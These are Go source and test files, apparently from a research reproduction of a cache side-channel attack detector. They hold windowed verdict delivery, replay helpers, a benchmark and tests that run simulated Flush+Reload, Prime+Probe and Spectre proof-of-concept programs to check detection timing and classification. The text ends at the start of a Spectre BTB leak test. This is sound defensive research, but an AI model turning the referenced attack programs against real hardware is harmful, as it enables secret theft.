		return v
	}
	v.ModelLen = m.BBS.Len()
	if reason := d.det.GateReason(m.BBS); reason != "" {
		// Benign by construction — the explicit benign-with-reason
		// verdict; no repository comparison happens.
		v.Reason = reason
		return v
	}
	res, err := d.det.ClassifyBBSCtx(ctx, m.BBS)
	if err != nil {
		v.Err = fmt.Errorf("window: scanning [%d,%d): %w", start, end, err)
		return v
	}
	v.Result = res
	return v
}

// queueQuiet holds back an empty-window verdict for possible collapse.
func (d *Detector) queueQuiet(v Verdict) {
	if d.cfg.QuietGap == 0 {
		d.deliver(v)
		return
	}
	d.quiet = append(d.quiet, v)
}

// flushQuiet emits the pending quiet run: collapsed to one verdict when
// it spans at least QuietGap cycles, individually otherwise.
func (d *Detector) flushQuiet() {
	if len(d.quiet) == 0 {
		return
	}
	run := d.quiet
	d.quiet = nil
	span := run[len(run)-1].End - run[0].Start
	if span >= d.cfg.QuietGap {
		d.deliver(Verdict{
			Start:  run[0].Start,
			End:    run[len(run)-1].End,
			Reason: ReasonQuietGap,
			Result: detect.BenignResult(),
		})
		return
	}
	for _, v := range run {
		d.deliver(v)
	}
}

// deliver assigns the stream index, fires the emit failpoint, updates
// telemetry and the outcome, and hands the verdict to the callback.
func (d *Detector) deliver(v Verdict) {
	v.Index = d.next
	d.next++
	if err := faultinject.Fire(faultinject.WindowEmit, fmt.Sprintf("%s#%d", d.name, v.Index)); err != nil {
		// A failing downstream consumer poisons this verdict only; the
		// stream keeps flowing.
		v.Err = fmt.Errorf("window: emit %s#%d: %w", d.name, v.Index, err)
	}
	tel := d.cfg.Telemetry
	tel.Inc(telemetry.WindowEmitted)
	d.out.Windows++
	switch {
	case v.Err != nil:
		d.out.Errors++
	case v.Reason == ReasonQuietWindow || v.Reason == ReasonQuietGap:
		tel.Inc(telemetry.WindowQuiet)
		d.out.Quiet++
	}
	if v.Malicious() {
		tel.Inc(telemetry.WindowHits)
		d.out.Hits++
		if !d.out.Detected {
			d.out.Detected = true
			d.out.DetectionCycle = v.End
		}
	}
	if v.Err == nil && (d.out.FinalWindow < 0 || v.Result.Best.Score > d.out.Final.Best.Score) {
		d.out.Final = v.Result
		d.out.FinalWindow = v.Index
	}
	if d.emit != nil {
		d.emit(v)
	}
}
