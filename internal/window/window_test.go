package window_test

import (
	"context"
	"reflect"
	"sort"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/cache"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/window"
)

// sharedRepo holds the paper's 4-entry deployment repository; modeling
// the PoCs runs the simulator, so it is built once.
var sharedRepo *detect.Repository

func repo(t testing.TB) *detect.Repository {
	t.Helper()
	if sharedRepo == nil {
		p := attacks.DefaultParams()
		pocs := []attacks.PoC{
			attacks.FlushReloadIAIK(p),
			attacks.PrimeProbeIAIK(p),
			attacks.SpectreFRIdea(p),
			attacks.SpectrePPTrippel(p),
		}
		r, err := detect.BuildRepository(pocs, model.DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		sharedRepo = r
	}
	return sharedRepo
}

// collect runs a program with event recording and returns the trace
// plus the LLC configuration it ran under.
func collect(t testing.TB, prog, victim *isa.Program) (*exec.Trace, cache.Config) {
	t.Helper()
	cfg := exec.DefaultConfig()
	cfg.RecordEvents = true
	m, err := exec.NewMachine(cfg, prog, victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if tr.EventsTruncated {
		t.Fatal("event log truncated")
	}
	return tr, m.Hierarchy().LLC().Config()
}

// shiftEvents returns a copy of evs with every PC moved by pcDelta and
// every cycle moved by cycleDelta — the trace-synthesis primitive the
// scenario tests compose. Data line addresses are left alone: only code
// is relocated.
func shiftEvents(evs []exec.Event, pcDelta, cycleDelta uint64) []exec.Event {
	out := make([]exec.Event, len(evs))
	for i, ev := range evs {
		ev.PC += pcDelta
		ev.Cycle += cycleDelta
		out[i] = ev
	}
	return out
}

// relocate shifts a program's code (addresses, entry, direct branch
// targets) by delta. Only direct branches are supported — enough for
// the PoC corpus used here; an indirect branch would need runtime
// values rewritten too, so it fails loudly.
func relocate(t *testing.T, p *isa.Program, delta uint64) *isa.Program {
	t.Helper()
	out := &isa.Program{Name: p.Name + "-reloc", Entry: p.Entry + delta}
	for _, in := range p.Insns {
		if in.Op.IsBranch() && in.Op != isa.RET && in.Dst.Kind != isa.OpImm {
			t.Fatalf("relocate: indirect %s at 0x%x unsupported", in.Op, in.Addr)
		}
		if _, ok := in.BranchTarget(); ok {
			in.Dst.Disp += int64(delta)
		}
		in.Addr += delta
		out.Insns = append(out.Insns, in)
	}
	return out
}

// merge concatenates the instruction streams of several programs into
// one (address ranges must be disjoint), dropping data segments —
// trace-based modeling never reads them.
func merge(t *testing.T, name string, entry uint64, parts ...*isa.Program) *isa.Program {
	t.Helper()
	out := &isa.Program{Name: name, Entry: entry}
	for _, p := range parts {
		out.Insns = append(out.Insns, p.Insns...)
	}
	sort.Slice(out.Insns, func(i, j int) bool { return out.Insns[i].Addr < out.Insns[j].Addr })
	if err := out.Validate(); err != nil {
		t.Fatalf("merge: %v", err)
	}
	return out
}

// postHoc classifies the full synthetic event stream the way the
// offline pipeline would: replay everything into one trace, model it
// whole, classify once.
func postHoc(t *testing.T, det *detect.Detector, prog *isa.Program, llc cache.Config, evs []exec.Event) detect.Result {
	t.Helper()
	tb := exec.NewTraceBuilder()
	for _, ev := range evs {
		tb.Apply(ev)
	}
	tr := tb.Trace(evs[len(evs)-1].Cycle + 1)
	m, err := model.BuildFromTrace(prog, tr, llc, det.ModelCfg)
	if err != nil {
		t.Fatal(err)
	}
	return det.ClassifyBBS(m.BBS)
}

// replayEvents drives a synthetic event stream through a windowed
// detector, collecting the verdict stream.
func replayEvents(t *testing.T, det *detect.Detector, prog *isa.Program, llc cache.Config, evs []exec.Event, cfg window.Config) ([]window.Verdict, window.Outcome) {
	t.Helper()
	var verdicts []window.Verdict
	d, err := window.New(det, prog, llc, cfg, func(v window.Verdict) { verdicts = append(verdicts, v) })
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	for _, ev := range evs {
		if err := d.Feed(ctx, ev); err != nil {
			t.Fatal(err)
		}
	}
	out, err := d.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return verdicts, out
}

// TestFlagsInFlightAttack pins the headline property: a replayed
// Flush+Reload is flagged malicious before its trace ends, and the
// latency-to-detection metric is populated.
func TestFlagsInFlightAttack(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)
	out, err := window.Replay(context.Background(), det, poc.Program, llc, tr, window.Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatal("in-flight Flush+Reload not detected")
	}
	if out.DetectionCycle >= tr.Cycles {
		t.Fatalf("detection at cycle %d, not before trace end %d", out.DetectionCycle, tr.Cycles)
	}
	lat, ok := out.LatencyToDetection()
	if !ok || lat == 0 || lat > tr.Cycles {
		t.Fatalf("latency-to-detection = %d, %v", lat, ok)
	}
	if got, want := out.Final.Predicted, attacks.Family("FR-F"); got != want {
		t.Fatalf("final = %s, want %s", got, want)
	}
}

// scanConfigs returns the three detector configurations the acceptance
// criteria name: exact flat scan, pruned lower-bound cascade, and the
// medoid-prototype index.
func scanConfigs() map[string]scan.Config {
	return map[string]scan.Config{
		"exact":   {},
		"cascade": {Prune: true, Cascade: true},
		"indexed": {Prune: true, Index: true},
	}
}

// TestDifferentialFullTrace pins agreement between the windowed final
// state and post-hoc classification, across the PoC corpus and all
// three scan configurations. Two layers:
//
//   - one window covering the whole trace must reproduce the post-hoc
//     prediction and best match exactly (the window path adds nothing
//     but slicing, and a full-trace slice is the identity);
//   - the default multi-window geometry must agree on the family.
func TestDifferentialFullTrace(t *testing.T) {
	p := attacks.DefaultParams()
	for name, sc := range scanConfigs() {
		t.Run(name, func(t *testing.T) {
			det := detect.NewDetector(repo(t))
			det.Scan = sc
			for _, poc := range []attacks.PoC{
				attacks.FlushReloadIAIK(p),
				attacks.PrimeProbeIAIK(p),
				attacks.SpectreFRIdea(p),
				attacks.SpectrePPTrippel(p),
			} {
				tr, llc := collect(t, poc.Program, poc.Victim)
				want := postHoc(t, det, poc.Program, llc, tr.Events)

				one := window.Config{Size: tr.Cycles + 1}
				verdicts, out := replayEvents(t, det, poc.Program, llc, tr.Events, one)
				if len(verdicts) != 1 {
					t.Fatalf("%s: %d windows for a full-trace window", poc.Name, len(verdicts))
				}
				if got := out.Final; got.Predicted != want.Predicted || got.Best != want.Best {
					t.Errorf("%s: full-window verdict %s/%v, post-hoc %s/%v",
						poc.Name, got.Predicted, got.Best, want.Predicted, want.Best)
				}

				_, multi := replayEvents(t, det, poc.Program, llc, tr.Events, window.Config{})
				if multi.Final.Predicted != want.Predicted {
					t.Errorf("%s: windowed family %s, post-hoc %s",
						poc.Name, multi.Final.Predicted, want.Predicted)
				}
				if !multi.Detected {
					t.Errorf("%s: not detected under default geometry", poc.Name)
				}
			}
		})
	}
}

// TestDeterministicStream pins the acceptance criterion that the
// verdict stream is a pure function of (trace, config): two replays of
// the same log produce identical streams.
func TestDeterministicStream(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.PrimeProbeIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)
	cfg := window.Config{Size: 6000, Stride: 3000, QuietGap: 12000}
	v1, o1 := replayEvents(t, det, poc.Program, llc, tr.Events, cfg)
	v2, o2 := replayEvents(t, det, poc.Program, llc, tr.Events, cfg)
	if !reflect.DeepEqual(v1, v2) {
		t.Fatal("verdict streams diverge between replays")
	}
	if !reflect.DeepEqual(o1, o2) {
		t.Fatal("outcomes diverge between replays")
	}
}

// TestAttackStartsMidTrace: a benign crypto workload runs first, the
// Flush+Reload (relocated clear of the benign code range) begins only
// after it. The windowed detector must agree with post-hoc on the full
// trace and must raise the alarm only after the attack's events begin.
func TestAttackStartsMidTrace(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)

	tmpl := benign.Templates(benign.KindCrypto)[0]
	bprog, err := benign.Generate(benign.Spec{Kind: benign.KindCrypto, Template: tmpl, Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	btr, llc := collect(t, bprog, nil)
	atr, _ := collect(t, poc.Program, poc.Victim)

	const delta = 0x10_0000
	reloc := relocate(t, poc.Program, delta)
	merged := merge(t, "benign-then-fr", bprog.Entry, bprog, reloc)
	attackStart := btr.Cycles + 1
	evs := append(append([]exec.Event{}, btr.Events...), shiftEvents(atr.Events, delta, attackStart)...)

	want := postHoc(t, det, merged, llc, evs)
	if want.Predicted == attacks.FamilyBenign {
		t.Fatal("post-hoc missed the embedded attack; scenario is vacuous")
	}
	verdicts, out := replayEvents(t, det, merged, llc, evs, window.Config{})
	if out.Final.Predicted != want.Predicted {
		t.Fatalf("windowed family %s, post-hoc %s", out.Final.Predicted, want.Predicted)
	}
	if !out.Detected {
		t.Fatal("mid-trace attack not detected")
	}
	if out.DetectionCycle <= attackStart {
		t.Fatalf("detection cycle %d before the attack began at %d", out.DetectionCycle, attackStart)
	}
	// Every window that closed before the attack began must be benign.
	for _, v := range verdicts {
		if v.End <= attackStart && v.Malicious() {
			t.Fatalf("window [%d,%d) flagged before the attack started at %d", v.Start, v.End, attackStart)
		}
	}
}

// TestQuietBetweenBursts: two Flush+Reload bursts separated by a long
// silent gap. The collapsed quiet verdict must appear between them, and
// the stream must agree with post-hoc on the whole trace.
func TestQuietBetweenBursts(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)

	const gap = 200_000
	second := shiftEvents(tr.Events, 0, tr.Cycles+gap)
	evs := append(append([]exec.Event{}, tr.Events...), second...)

	want := postHoc(t, det, poc.Program, llc, evs)
	cfg := window.Config{QuietGap: 50_000}
	verdicts, out := replayEvents(t, det, poc.Program, llc, evs, cfg)
	if out.Final.Predicted != want.Predicted {
		t.Fatalf("windowed family %s, post-hoc %s", out.Final.Predicted, want.Predicted)
	}
	var quietGaps, hitsBefore, hitsAfter int
	for _, v := range verdicts {
		switch {
		case v.Reason == window.ReasonQuietGap:
			quietGaps++
			if v.Events != 0 {
				t.Fatalf("quiet-gap verdict carries %d events", v.Events)
			}
			if v.Malicious() {
				t.Fatal("quiet-gap verdict flagged malicious")
			}
			if v.End-v.Start < cfg.QuietGap {
				t.Fatalf("collapsed span [%d,%d) shorter than QuietGap %d", v.Start, v.End, cfg.QuietGap)
			}
		case v.Malicious() && v.End <= tr.Cycles+1:
			hitsBefore++
		case v.Malicious():
			hitsAfter++
		}
	}
	if quietGaps == 0 {
		t.Fatal("no collapsed quiet-gap verdict for a 200k-cycle silence")
	}
	if hitsBefore == 0 || hitsAfter == 0 {
		t.Fatalf("hits before/after gap = %d/%d; want both bursts flagged", hitsBefore, hitsAfter)
	}
	if out.Quiet == 0 {
		t.Fatal("outcome counted no quiet verdicts")
	}
}

// TestTwoAttacksOneTrace: a Flush+Reload burst followed by a relocated
// Prime+Probe burst in one trace. Per-window classification must
// attribute each burst to its own family — the post-hoc pipeline, which
// models the trace whole, structurally cannot do this.
func TestTwoAttacksOneTrace(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	fr := attacks.FlushReloadIAIK(p)
	pp := attacks.PrimeProbeIAIK(p)

	frTr, llc := collect(t, fr.Program, fr.Victim)
	ppTr, _ := collect(t, pp.Program, pp.Victim)

	const delta = 0x10_0000
	ppReloc := relocate(t, pp.Program, delta)
	merged := merge(t, "fr-then-pp", fr.Program.Entry, fr.Program, ppReloc)
	ppStart := frTr.Cycles + 1
	evs := append(append([]exec.Event{}, frTr.Events...), shiftEvents(ppTr.Events, delta, ppStart)...)

	verdicts, out := replayEvents(t, det, merged, llc, evs, window.Config{})
	if !out.Detected {
		t.Fatal("neither attack detected")
	}
	// Thin windows that slice through the middle of a round carry only a
	// sliver of the attack's structure and may score a neighboring
	// family marginally higher; the windows that capture a full round
	// score their own family distinctly higher (the same aggregation
	// Outcome.Final uses). So the per-burst claim is about the
	// best-scoring window of each burst, not every sliver.
	var bestFR, bestPP window.Verdict
	for _, v := range verdicts {
		if !v.Malicious() {
			continue
		}
		if v.End <= ppStart && v.Result.Best.Score > bestFR.Result.Best.Score {
			bestFR = v
		}
		if v.Start >= ppStart && v.Result.Best.Score > bestPP.Result.Best.Score {
			bestPP = v
		}
	}
	if bestFR.Result.Predicted != fr.Family {
		t.Errorf("best FR-burst window [%d,%d) predicted %s, want %s",
			bestFR.Start, bestFR.End, bestFR.Result.Predicted, fr.Family)
	}
	if bestPP.Result.Predicted != pp.Family {
		t.Errorf("best PP-burst window [%d,%d) predicted %s, want %s",
			bestPP.Start, bestPP.End, bestPP.Result.Predicted, pp.Family)
	}
}

// TestBoundarySplitsAttack: window boundaries that slice straight
// through the attack's rounds (size and stride chosen so no window
// aligns with the burst) must not lose the detection, and the final
// verdict must still agree with post-hoc.
func TestBoundarySplitsAttack(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)
	want := postHoc(t, det, poc.Program, llc, tr.Events)

	// A prime-sized stride guarantees misalignment with any periodic
	// structure in the trace; size ≈ half the trace forces every window
	// boundary to cut through attack activity.
	cfg := window.Config{Size: tr.Cycles/2 + 1, Stride: 4099}
	_, out := replayEvents(t, det, poc.Program, llc, tr.Events, cfg)
	if !out.Detected {
		t.Fatal("split attack not detected")
	}
	if out.Final.Predicted != want.Predicted {
		t.Fatalf("windowed family %s, post-hoc %s", out.Final.Predicted, want.Predicted)
	}
}
