package window_test

// BenchmarkWindowedDetection measures the online path end to end: one
// iteration replays a recorded Flush+Reload event log through a fresh
// windowed detector under the default geometry — per-window event
// replay, incremental CST-BBS modeling, repository scan — and reports
// the latency-to-detection metric (cycles between the first event
// entering a window and the first malicious verdict) alongside ns/op.
//
// Two repositories bracket the deployment range:
//
//   - Golden: the paper's 4-entry PoC repository with the exact flat
//     scan — the floor for per-window scan cost.
//   - Corpus: the 500-variant mutation stress corpus behind the
//     medoid-prototype index — the scale the sharded service runs at.
//
// scripts/window-smoke.sh runs this under `make ci` at a short
// benchtime; the corpus build (500 modeled variants) happens once,
// outside the timed loop.

import (
	"context"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/scan"
	"repro/internal/window"
)

var windowBench struct {
	once   sync.Once
	err    error
	trace  *exec.Trace
	llc    cache.Config
	poc    attacks.PoC
	corpus *detect.Repository
}

func windowBenchSetup(b *testing.B) {
	windowBench.once.Do(func() {
		p := attacks.DefaultParams()
		windowBench.poc = attacks.FlushReloadIAIK(p)
		cfg := exec.DefaultConfig()
		cfg.RecordEvents = true
		m, err := exec.NewMachine(cfg, windowBench.poc.Program, windowBench.poc.Victim)
		if err != nil {
			windowBench.err = err
			return
		}
		windowBench.trace = m.Run()
		windowBench.llc = m.Hierarchy().LLC().Config()
		windowBench.corpus, windowBench.err = detect.BuildVariantRepository(detect.CorpusConfig{PerFamily: 125, Seed: 1})
	})
	if windowBench.err != nil {
		b.Fatal(windowBench.err)
	}
}

func BenchmarkWindowedDetection(b *testing.B) {
	windowBenchSetup(b)
	run := func(det *detect.Detector) func(*testing.B) {
		return func(b *testing.B) {
			// Warm the engine (and, for Corpus, build the index) outside
			// the timed loop: deployments hold a long-lived detector.
			ctx := context.Background()
			out, err := window.Replay(ctx, det, windowBench.poc.Program, windowBench.llc, windowBench.trace, window.Config{}, nil)
			if err != nil {
				b.Fatal(err)
			}
			lat, ok := out.LatencyToDetection()
			if !ok {
				b.Fatal("benchmark trace not detected")
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := window.Replay(ctx, det, windowBench.poc.Program, windowBench.llc, windowBench.trace, window.Config{}, nil); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(lat), "cycles-to-detect")
		}
	}
	b.Run("Golden", func(b *testing.B) {
		run(detect.NewDetector(repo(b)))(b)
	})
	b.Run("Corpus", func(b *testing.B) {
		det := detect.NewDetector(windowBench.corpus)
		det.Scan = scan.Config{Prune: true, Index: true}
		run(det)(b)
	})
}
