package window

import (
	"context"
	"fmt"

	"repro/internal/cache"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/isa"
)

// Replay feeds an already-collected event log through a fresh windowed
// detector and returns the outcome. llc must be the LLC configuration
// the trace was collected under. A truncated log is rejected: replaying
// a partial log as if it were complete would silently mis-window
// everything past the cut.
func Replay(ctx context.Context, det *detect.Detector, prog *isa.Program, llc cache.Config, tr *exec.Trace, cfg Config, emit func(Verdict)) (Outcome, error) {
	if tr == nil {
		return Outcome{}, fmt.Errorf("window: trace is nil")
	}
	if tr.EventsTruncated {
		return Outcome{}, fmt.Errorf("window: event log truncated at %d events — raise exec.Config.MaxEvents", len(tr.Events))
	}
	if len(tr.Events) == 0 {
		return Outcome{}, fmt.Errorf("window: trace has no event log — collect with exec.Config.RecordEvents")
	}
	d, err := New(det, prog, llc, cfg, emit)
	if err != nil {
		return Outcome{}, err
	}
	for _, ev := range tr.Events {
		if err := d.Feed(ctx, ev); err != nil {
			return d.Outcome(), err
		}
	}
	return d.Finish(ctx)
}

// Watch runs prog (with an optional victim) on a fresh machine with
// event recording enabled, then replays the log through a windowed
// detector — the one-call path behind `scaguard watch`. execCfg's
// RecordEvents is forced on. Verdicts stream through emit as the replay
// crosses window boundaries, exactly as they would have during a live
// run.
func Watch(ctx context.Context, det *detect.Detector, prog, victim *isa.Program, execCfg exec.Config, cfg Config, emit func(Verdict)) (Outcome, error) {
	execCfg.RecordEvents = true
	m, err := exec.NewMachine(execCfg, prog, victim)
	if err != nil {
		return Outcome{}, err
	}
	tr := m.Run()
	return Replay(ctx, det, prog, m.Hierarchy().LLC().Config(), tr, cfg, emit)
}
