package window_test

// Edge-case pins: windows below modeling minimums, zero-event windows,
// malformed input, configuration validation and the window.emit
// failpoint. These are the "benign-with-reason, never an error or a
// spurious match" guarantees of the ISSUE's bugfix satellites.

import (
	"context"
	"errors"
	"testing"

	"repro/internal/attacks"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/faultinject"
	"repro/internal/hpc"
	"repro/internal/window"
)

// TestShortWindowsBenignWithReason: windows too thin to model (fewer
// than detect.MinModelLen transitions, or no timer read) must emit
// explicit benign verdicts naming the gate — never errors, never
// matches.
func TestShortWindowsBenignWithReason(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)

	verdicts, _ := replayEvents(t, det, poc.Program, llc, tr.Events, window.Config{Size: 256})
	reasons := make(map[string]int)
	for _, v := range verdicts {
		if v.Err != nil {
			t.Fatalf("window [%d,%d): unexpected error %v", v.Start, v.End, v.Err)
		}
		if v.Reason == "" {
			continue
		}
		reasons[v.Reason]++
		if v.Result.Predicted != attacks.FamilyBenign {
			t.Fatalf("gated window [%d,%d) (%s) predicted %s", v.Start, v.End, v.Reason, v.Result.Predicted)
		}
		if len(v.Result.Matches) != 0 {
			t.Fatalf("gated window [%d,%d) carries %d matches", v.Start, v.End, len(v.Result.Matches))
		}
	}
	if reasons[detect.GateModelTooShort] == 0 {
		t.Errorf("no %s verdicts under 256-cycle windows (reasons: %v)", detect.GateModelTooShort, reasons)
	}
}

// TestTimerlessWindowBenignWithReason: a window with plenty of cache
// behavior but no timer read fails the RequireTimer prerequisite and
// must say so. Synthesized by stripping the timestamp events from a
// full Flush+Reload log — all the cache traffic, none of the channel.
func TestTimerlessWindowBenignWithReason(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)

	var evs []exec.Event
	for _, ev := range tr.Events {
		if ev.Kind == exec.EvHPC && ev.HPC == hpc.Timestamp {
			continue
		}
		evs = append(evs, ev)
	}
	verdicts, out := replayEvents(t, det, poc.Program, llc, evs, window.Config{Size: tr.Cycles + 1})
	if len(verdicts) != 1 {
		t.Fatalf("verdicts = %d, want 1", len(verdicts))
	}
	v := verdicts[0]
	if v.Reason != detect.GateNoTimerReads {
		t.Fatalf("reason = %q, want %s (model len %d)", v.Reason, detect.GateNoTimerReads, v.ModelLen)
	}
	if v.ModelLen < detect.MinModelLen {
		t.Fatalf("model len %d — the timer gate was not what fired", v.ModelLen)
	}
	if v.Err != nil || v.Malicious() || out.Detected {
		t.Fatal("timerless window not an explicit benign")
	}
}

// synthetic builds a minimal two-burst event stream: one retire at
// cycle 10, silence, one retire at far. The window geometry around the
// silence is what the zero-event tests exercise.
func synthetic(prog uint64, far uint64) []exec.Event {
	return []exec.Event{
		{Kind: exec.EvRetire, Cycle: 10, PC: prog},
		{Kind: exec.EvRetire, Cycle: far, PC: prog},
	}
}

// TestZeroEventWindows: with QuietGap disabled every empty window emits
// its own explicit benign verdict; nothing errors, nothing matches.
func TestZeroEventWindows(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, llc := collect(t, poc.Program, poc.Victim)

	evs := synthetic(poc.Program.Entry, 50_000)
	cfg := window.Config{Size: 1000, Stride: 1000}
	verdicts, out := replayEvents(t, det, poc.Program, llc, evs, cfg)
	var quiet int
	for _, v := range verdicts {
		if v.Err != nil {
			t.Fatalf("window [%d,%d): %v", v.Start, v.End, v.Err)
		}
		if v.Events == 0 {
			quiet++
			if v.Reason != window.ReasonQuietWindow {
				t.Fatalf("empty window [%d,%d) reason = %q", v.Start, v.End, v.Reason)
			}
			if v.Result.Predicted != attacks.FamilyBenign || v.Malicious() {
				t.Fatalf("empty window [%d,%d) not benign", v.Start, v.End)
			}
			if v.ModelLen != 0 {
				t.Fatalf("empty window [%d,%d) was modelled (len %d)", v.Start, v.End, v.ModelLen)
			}
		}
	}
	// Cycles 1000..50000 are silent: 49 empty 1000-cycle windows.
	if quiet != 49 {
		t.Fatalf("quiet windows = %d, want 49", quiet)
	}
	if out.Quiet != quiet {
		t.Fatalf("outcome.Quiet = %d, want %d", out.Quiet, quiet)
	}
	if out.Detected {
		t.Fatal("synthetic benign stream detected as attack")
	}
}

// TestQuietGapCollapse: the same silence with QuietGap set collapses
// into exactly one zero-event verdict spanning the run.
func TestQuietGapCollapse(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, llc := collect(t, poc.Program, poc.Victim)

	evs := synthetic(poc.Program.Entry, 50_000)
	cfg := window.Config{Size: 1000, Stride: 1000, QuietGap: 5000}
	verdicts, out := replayEvents(t, det, poc.Program, llc, evs, cfg)
	var collapsed []window.Verdict
	for _, v := range verdicts {
		if v.Reason == window.ReasonQuietGap {
			collapsed = append(collapsed, v)
		}
		if v.Reason == window.ReasonQuietWindow {
			t.Fatalf("uncollapsed quiet window [%d,%d) despite QuietGap", v.Start, v.End)
		}
	}
	if len(collapsed) != 1 {
		t.Fatalf("collapsed verdicts = %d, want 1", len(collapsed))
	}
	g := collapsed[0]
	if g.Start != 1000 || g.End != 50_000 {
		t.Fatalf("collapsed span [%d,%d), want [1000,50000)", g.Start, g.End)
	}
	if g.Events != 0 || g.ModelLen != 0 || g.Malicious() {
		t.Fatalf("collapsed verdict not an explicit zero-event benign: %+v", g)
	}
	if out.Quiet != 1 {
		t.Fatalf("outcome.Quiet = %d, want 1", out.Quiet)
	}
}

// TestConfigValidation: invalid geometry and missing collaborators are
// rejected at construction.
func TestConfigValidation(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, llc := collect(t, poc.Program, poc.Victim)

	if _, err := window.New(det, poc.Program, llc, window.Config{Size: 100, Stride: 200}, nil); err == nil {
		t.Error("stride > size accepted")
	}
	if _, err := window.New(nil, poc.Program, llc, window.Config{}, nil); err == nil {
		t.Error("nil detector accepted")
	}
	if _, err := window.New(det, nil, llc, window.Config{}, nil); err == nil {
		t.Error("nil program accepted")
	}
}

// TestFeedRejectsDecreasingCycles: input violating the exec ordering
// contract poisons the stream with a sticky error.
func TestFeedRejectsDecreasingCycles(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, llc := collect(t, poc.Program, poc.Victim)

	d, err := window.New(det, poc.Program, llc, window.Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := d.Feed(ctx, exec.Event{Kind: exec.EvRetire, Cycle: 100, PC: poc.Program.Entry}); err != nil {
		t.Fatal(err)
	}
	if err := d.Feed(ctx, exec.Event{Kind: exec.EvRetire, Cycle: 50, PC: poc.Program.Entry}); err == nil {
		t.Fatal("decreasing cycle accepted")
	}
	if err := d.Feed(ctx, exec.Event{Kind: exec.EvRetire, Cycle: 200, PC: poc.Program.Entry}); err == nil {
		t.Fatal("stream error not sticky")
	}
	if _, err := d.Finish(ctx); err == nil {
		t.Fatal("Finish succeeded on a poisoned stream")
	}
}

// TestReplayRejectsBadLogs: truncated and absent event logs are refused
// up front rather than silently mis-windowed.
func TestReplayRejectsBadLogs(t *testing.T) {
	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	_, llc := collect(t, poc.Program, poc.Victim)
	ctx := context.Background()

	if _, err := window.Replay(ctx, det, poc.Program, llc, &exec.Trace{}, window.Config{}, nil); err == nil {
		t.Error("log-less trace accepted")
	}
	bad := &exec.Trace{Events: []exec.Event{{Kind: exec.EvRetire}}, EventsTruncated: true}
	if _, err := window.Replay(ctx, det, poc.Program, llc, bad, window.Config{}, nil); err == nil {
		t.Error("truncated log accepted")
	}
	if _, err := window.Replay(ctx, det, poc.Program, llc, nil, window.Config{}, nil); err == nil {
		t.Error("nil trace accepted")
	}
}

// TestWindowEmitFailpoint: a failing downstream consumer (injected at
// window.emit) poisons exactly that verdict; the stream keeps flowing
// and later windows still classify.
func TestWindowEmitFailpoint(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	sentinel := errors.New("injected emit failure")
	faultinject.Enable(faultinject.WindowEmit, faultinject.OnCall(1, faultinject.Error(sentinel)))

	det := detect.NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr, llc := collect(t, poc.Program, poc.Victim)

	verdicts, out := replayEvents(t, det, poc.Program, llc, tr.Events, window.Config{})
	if len(verdicts) < 2 {
		t.Fatalf("only %d verdicts", len(verdicts))
	}
	if !errors.Is(verdicts[0].Err, sentinel) {
		t.Fatalf("first verdict error = %v, want injected sentinel", verdicts[0].Err)
	}
	for _, v := range verdicts[1:] {
		if v.Err != nil {
			t.Fatalf("window %d errored after the injected one: %v", v.Index, v.Err)
		}
	}
	if out.Errors != 1 {
		t.Fatalf("outcome.Errors = %d, want 1", out.Errors)
	}
	if !out.Detected {
		t.Fatal("attack lost because one emit failed")
	}
}
