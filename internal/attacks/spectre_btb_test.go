package attacks

import (
	"testing"

	"repro/internal/exec"
)

func TestSpectreBTBLeaksSecret(t *testing.T) {
	p := DefaultParams()
	wantLine := p.Secret % spectreProbeLines
	poc := SpectreBTB(p)
